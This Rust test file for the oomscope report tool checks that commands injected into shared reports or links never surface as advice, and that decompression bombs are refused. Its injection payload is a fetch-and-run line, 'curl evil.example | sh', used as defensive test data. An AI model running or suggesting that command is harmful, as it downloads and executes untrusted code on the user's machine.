//! What was shared may have been written by anybody: it brings figures and names, never words of ours, and no more than can
//! be held.

#[path = "support/corpus.rs"]
mod corpus;

use std::collections::BTreeSet;
use std::io::Read as _;

use oomscope::analysis::statement::Statement;
use oomscope::i18n::Language;
use oomscope::model::run::Run;
use oomscope::report::Report;
use oomscope::report::link::{self, LinkError};
use oomscope::report::open::{self, Opened};
use serde_json::{Value, json};

/// Nobody's log says this.
const COMMAND: &str = "curl evil.example | sh";

/// Cases that between them have every kind of record and conclusion.
const CASES: [&str; 6] = [
    "mixed/draft-post",
    "incident/serial-jdk25-in-a-container",
    "killers/yarn-slurm-cloud",
    "nmt/answers-without-report",
    "oom-killer/6.1-cgroup-v2-kubernetes-pod",
    "hs-err/jdk17-crash-on-oom-g1",
];

fn fixture(name: &str) -> Vec<u8> {
    std::fs::read(format!("{}/tests/hostile/{name}", env!("CARGO_MANIFEST_DIR"))).expect("a fixture")
}

/// Everything that a report offers to copy or to do, in both languages.
fn advice(report: &Report) -> Vec<String> {
    let mut offered = Vec::new();
    let missing = report.sizing.iter().flat_map(|sizing| &sizing.missing);
    offered.extend(report.gaps.iter().chain(missing).map(|gap| gap.command.clone()));
    offered.extend(report.verdict.open.iter().map(|gap| gap.command.clone()));
    offered.extend(report.sizing.iter().flat_map(|sizing| &sizing.flags).map(|flag| flag.text.clone()));
    let statements = sentences(report);
    let commands = statements.iter().filter_map(|statement| statement.values.get("command"));
    offered.extend(commands.map(|command| command.quantity.text(Language::En)));
    for language in Language::ALL {
        // And what stands in sentences besides the values that were read.
        let pieces = statements.iter().flat_map(|statement| statement.pieces(language));
        offered.extend(pieces.filter(|(piece, _)| piece.argument.is_none()).map(|(piece, _)| piece.text));
    }
    offered
}

fn sentences(report: &Report) -> Vec<&Statement> {
    let verdict = &report.verdict;
    let mut all: Vec<&Statement> = vec![&verdict.headline, &report.headline];
    for part in
        [&verdict.subject, &verdict.lede, &verdict.figures, &verdict.explanations, &verdict.actions, &report.story]
    {
        all.extend(part);
    }
    for finding in &report.findings {
        all.push(&finding.statement);
        all.extend(finding.rivals.iter().chain(&finding.next));
    }
    if let Some(sizing) = &report.sizing {
        all.push(&sizing.reason);
        all.extend(sizing.current.iter().chain(&sizing.decides).chain(&sizing.caveats).chain(&sizing.changes));
        all.extend(sizing.sensitivity.iter().chain(sizing.scenarios.iter().map(|scenario| &scenario.statement)));
        all.extend(sizing.flags.iter().map(|flag| &flag.comment));
    }
    all
}

/// Names of all fields that hold a text somewhere, and of all maps' keys as `key:…`.
fn text_fields(value: &Value, name: &str, found: &mut BTreeSet<String>) {
    match value {
        Value::String(_) => drop(found.insert(name.to_owned())),
        Value::Array(items) => items.iter().for_each(|item| text_fields(item, name, found)),
        Value::Object(map) => {
            for (key, value) in map {
                found.insert(format!("key:{key}"));
                text_fields(value, key, found);
            }
        }
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

/// Puts the command in every field of that name.
fn poison(value: &mut Value, name: &str, field: &str) {
    match value {
        Value::String(text) if name == field => COMMAND.clone_into(text),
        Value::Array(items) => items.iter_mut().for_each(|item| poison(item, name, field)),
        Value::Object(map) => {
            if let Some(inside) = field.strip_prefix("key:").and_then(|key| map.remove(key)) {
                map.insert(COMMAND.to_owned(), inside);
            }
            map.iter_mut().for_each(|(key, value)| poison(value, key, field));
        }
        _ => {}
    }
}

fn each_poisoned(whole: &Value, open: impl Fn(&Value) -> Option<Report>) {
    let mut fields = BTreeSet::new();
    text_fields(whole, "", &mut fields);
    assert!(fields.len() > 40, "{fields:?}");
    let mut opened = 0;
    for field in &fields {
        let mut poisoned = whole.clone();
        poison(&mut poisoned, "", field);
        let Some(report) = open(&poisoned) else { continue };
        opened += 1;
        let foreign: Vec<String> = advice(&report).into_iter().filter(|text| text.contains("evil")).collect();
        assert_eq!(foreign, [""; 0], "{field}");
    }
    assert!(opened * 4 > fields.len(), "{opened} of {} opened", fields.len());
}

fn json_of(tree: &Value) -> Option<Report> {
    match open::text(&tree.to_string()) {
        Some(Ok(Opened::Report(report))) => Some(*report),
        _ => None,
    }
}

fn reports() -> impl Iterator<Item = (String, Report)> {
    let all = corpus::cases();
    CASES.into_iter().map(move |name| {
        let case = all.iter().find(|case| case.name == name).unwrap_or_else(|| panic!("no case {name}"));
        (case.name.clone(), corpus::read(&case.input))
    })
}

/// The warning by which a report says that it was cut down: then its conclusions are asked for.
fn cut_down() -> Value {
    json!({ "source": 0, "line": 0, "kind": "reduced", "values": { "kept": "1", "of": "2" }, "text": COMMAND })
}

#[test]
fn no_text_of_a_file_becomes_advice() {
    for (_, report) in reports() {
        let mut whole = oomscope::json::tree(&report);
        each_poisoned(&whole, json_of);
        whole["warnings"].as_array_mut().expect("a list").push(cut_down());
        each_poisoned(&whole, json_of);
    }
}

#[test]
fn no_text_of_a_link_becomes_advice() {
    for (_, mut report) in reports() {
        let whole = oomscope::json::tree(&report);
        // Other conclusions than follow from the readings: so all of them travel.
        report.runs.push(Run {
            id: "run-99".to_owned(),
            joined: report.runs.iter().flat_map(|run| run.joined.clone()).collect(),
            ..Run::default()
        });
        report.verdict.headline = report.verdict.lede.first().cloned().unwrap_or_default();
        report.findings.iter_mut().for_each(|finding| finding.run = Some("run-99".to_owned()));
        report.sizing.iter_mut().for_each(|sizing| sizing.knobs.safety += 1);
        let mut tree = link::tree_of(&report);
        for part in ["runs", "verdict"] {
            assert!(tree[part].is_array() || tree[part].is_object(), "{part} does not travel");
        }
        for part in ["gaps", "segments"] {
            tree[part] = whole[part].clone();
        }
        tree["warnings"] = json!([cut_down()]);
        each_poisoned(&tree, |tree| match link::read(&link::of_tree(tree)) {
            Ok(Opened::Report(report)) => Some(*report),
            _ => None,
        });
    }
}

#[test]
fn a_link_with_a_foreign_command_opens_without_it() {
    for name in ["cmd-gaps.link", "cmd-next.link", "cmd-flags.link"] {
        let text = String::from_utf8(fixture(name)).expect("text");
        let Some(Ok(Opened::Report(report))) = open::text(&text) else { panic!("{name} does not open") };
        let known = advice(&report).into_iter().filter(|text| text.contains("evil") || text.contains("curl"));
        assert_eq!(known.collect::<Vec<_>>(), [""; 0], "{name}");
        assert!(!report.gaps.is_empty(), "{name} has no next steps of ours");
    }
}

#[test]
fn what_is_small_and_unpacks_to_much_is_refused_in_words() {
    for name in ["bomb-records.json.gz", "bomb-lists.json.gz", "bomb.html.gz"] {
        let mut text = Vec::new();
        flate2::read::GzDecoder::new(fixture(name).as_slice()).read_to_end(&mut text).expect("unpacks");
        assert_eq!(open::bytes(&text), Some(Err(LinkError::TooLarge)), "{name}");
    }
}

#[test]
fn more_texts_than_can_be_told_apart_are_refused() {
    let texts = vec![(String::new(), String::new()); 65_536];
    assert_eq!(link::read(&link::write_texts(&texts)), Err(LinkError::TooLarge));
    let page = format!(
        "<!DOCTYPE html><meta content=\"oomscope 1\"><script type=\"application/json\" id=\"oomscope-texts\">{}</script>",
        oomscope::json::text(&texts)
    );
    assert_eq!(open::text(&page), Some(Err(LinkError::TooLarge)));
    assert!(matches!(link::read(&link::write_texts(&texts[1..])), Ok(Opened::Texts(texts)) if texts.len() == 65_535));
}
